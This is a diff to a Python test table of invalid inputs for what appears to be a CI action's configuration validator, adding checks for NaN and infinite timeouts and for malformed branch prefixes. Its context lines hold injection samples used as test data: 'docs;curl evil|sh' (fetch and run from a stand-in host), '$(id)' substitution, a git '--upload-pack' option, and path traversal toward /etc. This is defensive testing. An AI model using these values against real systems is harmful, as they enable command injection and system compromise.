@@ -200,6 +200,8 @@ BAD_INPUTS: dict[str, tuple[str, str, str]] = {
     "iterations-huge": ("MAX_REVIEW_ITERATIONS", "10000", "less than or equal to 10"),
     "max-turns-float": ("MAX_TURNS", "1e9", "INPUT_MAX_TURNS"),
     "timeout-negative": ("TIMEOUT_MINUTES", "-5", "INPUT_TIMEOUT_MINUTES"),
+    "timeout-nan": ("TIMEOUT_MINUTES", "nan", "INPUT_TIMEOUT_MINUTES: Input should be a finite"),
+    "timeout-infinite": ("TIMEOUT_MINUTES", "inf", "Input should be a finite number"),
     "dry-run-maybe": ("DRY_RUN", "maybe", "INPUT_DRY_RUN"),
     "driver-unknown": ("DRIVER", "cli:gpt", "INPUT_DRIVER"),
     "review-event-merge": ("REVIEW_EVENT", "merge", "INPUT_REVIEW_EVENT"),
@@ -207,10 +209,13 @@ BAD_INPUTS: dict[str, tuple[str, str, str]] = {
     "plan-dir-traversal": ("PLAN_DIR", "../../etc", "relative directory inside the repository"),
     "plan-dir-absolute": ("PLAN_DIR", "/etc/cron.d", "relative directory inside the repository"),
     "plan-dir-into-git": ("PLAN_DIR", "docs/.git/hooks", "no .git"),
+    "plan-dir-into-git-upper-case": ("PLAN_DIR", ".GIT/x", "no .git"),
     "plan-dir-shell": ("PLAN_DIR", "docs;curl evil|sh", "relative directory inside the repository"),
     "branch-prefix-shell": ("BRANCH_PREFIX", "amelia/$(id)", "INPUT_BRANCH_PREFIX"),
     "branch-prefix-traversal": ("BRANCH_PREFIX", "../heads/main", "without '..'"),
     "branch-prefix-option": ("BRANCH_PREFIX", "--upload-pack=x", "leading '-'"),
+    "branch-prefix-lock": ("BRANCH_PREFIX", "x.lock/", "end with '.lock'"),
+    "branch-prefix-dot-part": ("BRANCH_PREFIX", "a/.b/", "start with '.'"),
 }
 
 
